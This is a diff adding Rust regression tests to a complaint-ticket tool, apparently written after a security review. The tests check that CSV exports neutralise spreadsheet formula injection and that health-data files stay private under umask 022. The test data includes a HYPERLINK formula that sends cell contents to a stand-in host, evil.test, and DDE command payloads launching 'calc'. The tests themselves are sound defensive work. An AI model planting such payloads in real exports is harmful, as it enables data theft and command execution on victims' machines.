@@ -187,3 +187,204 @@ fn export_refuses_a_database_that_does_not_exist() {
     assert!(!out.status.success());
     assert!(stderr(&out).contains("ascolto.sqlite3"), "{}", stderr(&out));
 }
+
+/// Every cell of a CSV, parsed as a spreadsheet would read it.
+fn csv_cells(text: &str, delimiter: u8) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .delimiter(delimiter)
+        .has_headers(false)
+        .flexible(true)
+        .comment(Some(b'#'))
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// No cell would run as a formula in Excel or LibreOffice: none begins with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return, but a plain number.
+fn assert_no_formula(cells: &[Vec<String>]) {
+    for cell in cells.iter().flatten() {
+        let number = cell.parse::<f64>().is_ok() || cell.replace(',', ".").parse::<f64>().is_ok();
+        assert!(
+            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a formula in the CSV: {cell:?}"
+        );
+    }
+}
+
+/// Issue 11, finding 10: `export tickets --format csv` wrote a citizen's name
+/// `=HYPERLINK(…)` and a subject `=cmd|' /C calc'!A0` as they came.
+#[test]
+fn csv_exports_never_carry_a_formula() {
+    let d = daemon(VALID);
+    let hyperlink = r#"=HYPERLINK("http://evil.test/?"&A1,"Apri il referto")"#;
+    let dde = "=cmd|' /C calc'!A0";
+    let raw = format!(
+        "From: \"=HYPERLINK(\\\"http://evil.test/?\\\"&A1,\\\"Apri il referto\\\")\" <mario@example.test>\r\n\
+To: urp@hospital.test\r\nSubject: {dde}\r\nDate: Mon, 02 Mar 2026 10:00:00 +0100\r\n\
+Message-ID: <csv-1@example.test>\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nTesto.\r\n"
+    );
+    let inbox = d.dir.path().join("inbox");
+    std::fs::create_dir(&inbox).unwrap();
+    std::fs::write(inbox.join("1.eml"), raw).unwrap();
+    std::fs::write(
+        inbox.join("2.eml"),
+        common::complaint(
+            "+39 333 1234567 <anna@example.test>",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "x",
+        ),
+    )
+    .unwrap();
+    let out = run(&d, &["import", inbox.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    // JSON carries the data as it came (it is data, not a spreadsheet).
+    let t = d.export_tickets();
+    assert_eq!(t[0]["citizen_name"], hyperlink);
+    assert_eq!(t[0]["subject"], dde);
+
+    let out = run(&d, &["export", "tickets", "--format", "csv"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let cells = csv_cells(&String::from_utf8(out.stdout).unwrap(), b',');
+    let column = |name: &str| cells[0].iter().position(|h| h == name).unwrap();
+    let row = &cells[1];
+    assert_eq!(row[column("citizen_name")], format!("'{hyperlink}"));
+    assert_eq!(row[column("subject")], format!("'{dde}"));
+    assert_eq!(cells[2][column("subject")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    // Numbers and flags stay what they are.
+    assert_eq!(row[column("inbound_messages")], "1");
+    assert_eq!(row[column("pec")], "false");
+    assert_no_formula(&cells);
+    for what in ["outbox", "quarantine"] {
+        let out = run(&d, &["export", what, "--format", "csv"]);
+        assert!(out.status.success(), "{}", stderr(&out));
+        assert_no_formula(&csv_cells(&String::from_utf8(out.stdout).unwrap(), b','));
+    }
+}
+
+/// `ascolto ARGS` with the daemon's settings, run by `sh` under umask 022: what a shell of an
+/// administrator (or a unit without `UMask=`) gives.
+fn under_umask_022(d: &Daemon, args: &[&str]) -> std::process::Command {
+    let inner = d.command();
+    let mut c = std::process::Command::new("sh");
+    c.arg("-c")
+        .arg("umask 022 && exec \"$@\"")
+        .arg("sh")
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .args(args)
+        .stdin(std::process::Stdio::null());
+    for (k, v) in inner.get_envs() {
+        match v {
+            Some(v) => c.env(k, v),
+            None => c.env_remove(k),
+        };
+    }
+    c
+}
+
+fn mode(path: &std::path::Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path)
+        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+        .permissions()
+        .mode()
+        & 0o777
+}
+
+/// Kills the daemon it holds when dropped (a failed assertion included).
+struct Running(std::process::Child);
+
+impl Drop for Running {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Issue 11, finding 11: under umask 022 the database, `ascolto backup`'s copies and the file
+/// mailer's `.eml` files were 0644: health data readable by every local user.
+#[test]
+fn health_data_files_are_private_whatever_the_umask() {
+    let d = Daemon::new(|db| {
+        format!(
+            "[database]\npath = \"{}\"\n\n[smtp]\nbackend = \"file\"\nfile_dir = \"{}\"\nfrom_address = \"urp@hospital.test\"\n",
+            db.display(),
+            db.parent().unwrap().join("sent").display()
+        )
+    });
+    let ok = |c: &mut std::process::Command| {
+        let out = c.output().unwrap();
+        assert!(out.status.success(), "{}", stderr(&out));
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    // The shell really runs with umask 022.
+    let probe = d.dir.path().join("probe");
+    ok(std::process::Command::new("sh")
+        .arg("-c")
+        .arg("umask 022 && touch \"$0\"")
+        .arg(&probe));
+    assert_eq!(mode(&probe), 0o644);
+
+    ok(&mut under_umask_022(&d, &["migrate"]));
+    assert_eq!(mode(&d.db_path()), 0o600, "the database");
+
+    // The daemon's -wal and -shm, while it runs.
+    let child = under_umask_022(&d, &["serve"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let serving = Running(child);
+    common::http::Client::wait_ready(&d.base_url());
+    for suffix in ["-wal", "-shm"] {
+        let mut name = d.db_path().into_os_string();
+        name.push(suffix);
+        assert_eq!(mode(std::path::Path::new(&name)), 0o600, "{suffix}");
+    }
+
+    // The file mailer's mail.
+    ok(&mut under_umask_022(
+        &d,
+        &["send-test-email", "citizen@example.test"],
+    ));
+    let sent = d.dir.path().join("sent");
+    let eml: Vec<_> = std::fs::read_dir(&sent)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    assert_eq!(eml.len(), 1, "{eml:?}");
+    assert_eq!(mode(&eml[0]), 0o600, "{}", eml[0].display());
+    assert_eq!(mode(&sent), 0o700, "the folder it made");
+
+    // A backup, while the daemon runs.
+    let copies = d.dir.path().join("copie");
+    ok(&mut under_umask_022(
+        &d,
+        &["backup", &format!("{}/", copies.display())],
+    ));
+    let copy = std::fs::read_dir(&copies)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.extension().is_some_and(|e| e == "sqlite3"))
+        .unwrap();
+    assert_eq!(mode(&copy), 0o600, "the backup");
+    assert_eq!(mode(&copies), 0o700, "the folder it made");
+    drop(serving);
+
+    // A restore makes the database anew: private too.
+    ok(&mut under_umask_022(
+        &d,
+        &["restore", copy.to_str().unwrap()],
+    ));
+    assert_eq!(mode(&d.db_path()), 0o600, "the restored database");
+
+    // A database an older ascolto made 0644 is closed to others when opened.
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(d.db_path(), std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+    ok(&mut under_umask_022(&d, &["migrate"]));
+    assert_eq!(mode(&d.db_path()), 0o640);
+}
